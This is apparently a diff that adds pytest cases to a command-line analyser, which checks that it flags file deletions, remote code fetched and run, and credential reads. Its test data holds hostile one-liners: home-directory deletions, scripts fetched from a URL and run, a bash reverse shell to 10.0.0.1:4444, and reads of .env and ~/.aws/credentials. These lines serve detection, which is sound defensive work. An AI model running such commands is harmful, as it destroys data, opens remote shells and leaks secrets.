@@ -204,3 +204,50 @@ def test_what_was_fetched_before_is_run(program: str, text: str, runs: bool) -> 
     """Text that came from elsewhere and is evaluated, or handed to a shell, some lines later."""
     kinds = {one.kind for one in read_line(f"{program} {quoted(text)}").commands[0].opaque}
     assert ("input" in kinds) is runs
+
+
+@pytest.mark.parametrize(
+    ("line", "removed"),
+    [
+        ('php -r \'array_map("unlink", glob("a/*"));\'', ["a/*"]),
+        ("perl -e 'unlink glob \"$ENV{HOME}/*\"'", ["~/*"]),
+        ("ruby -e 'Dir[\"#{Dir.home}/*\"].each { |f| File.delete(f) }'", ["~/*"]),
+        ("node -e 'globSync(\"a/*\").forEach(f => fs.rmSync(f))'", ["a/*"]),
+        ("python3 -c 'list(map(os.remove, glob.glob(\"a/*\")))'", ["a/*"]),
+        ("python3 -c 'import shutil; shutil.rmtree(Path.cwd().parent)'", ["./.."]),
+        ("python3 -c 'import shutil; shutil.rmtree(Path(x).parent)'", [HOLE]),
+        ('vim -es -c \'call delete(expand("~/a"), "rf")\' -c q', ["~/a"]),
+        ("nvim -c 'lua vim.fs.rm(\"a\")' -c q", ["a"]),
+        ("emacs --batch --eval '(delete-directory (expand-file-name \"~/a\") t)'", ["~/a"]),
+    ],
+)
+def test_each_of_many_is_removed(line: str, removed: list[str]) -> None:
+    """A call for each of many, an editor's own calls, and folders beside this one are known."""
+    assert [one for command in read_line(line).commands for one in command.removes] == removed
+
+
+@pytest.mark.parametrize(
+    ("line", "fetches"),
+    [
+        ("vim -c 'source https://a.test/x.vim' -c q", True),
+        ("vim -c 'source x.vim' -c q", False),
+        ("emacs --eval '(load (url-file-local-copy \"https://a.test/x.el\"))'", True),
+        ("emacs --eval '(load \"x.el\")'", False),
+        ('python3 -c \'urlretrieve("https://a.test/x", "x"); runpy.run_path("x")\'', True),
+        ("python3 -c 'x = \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"'", False),
+    ],
+)
+def test_a_text_that_an_editor_or_a_program_fetches_is_unread(line: str, fetches: bool) -> None:
+    """What is fetched and run at once is opaque as input; a text that is only kept is not."""
+    found = read_line(line)
+    blind = {one.kind for command in found.commands for one in command.opaque}
+    assert ("input" in blind) == fetches
+    assert not any("socket" in one.wrappers for one in found.commands)
+
+
+def test_what_a_client_of_a_store_reads_is_known() -> None:
+    """`upload_file` and the reader of settings read the file that they are given."""
+    for line in ("upload_file('.env', 'b')", "c.read(os.path.expanduser('~/.aws/credentials'))"):
+        found = read_line(f'python3 -c "{line}"').commands[-1]
+        assert found.reads, line
+    assert read_line("python3 -c 'f.read(100)'").commands[-1].reads == ()
